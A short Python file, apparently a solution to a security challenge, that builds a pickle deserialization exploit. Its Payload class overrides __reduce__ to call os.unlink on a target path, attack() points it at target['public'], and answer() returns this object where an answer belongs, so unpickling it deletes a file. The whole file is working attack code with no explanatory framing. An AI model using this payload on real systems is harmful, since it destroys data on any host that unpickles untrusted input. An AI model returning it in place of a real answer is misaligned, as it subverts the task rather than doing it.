import os


class Payload:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.unlink, (self.path,)


def attack(target):
    attack.payload = Payload(target["public"])


def answer(a, b):
    return attack.payload
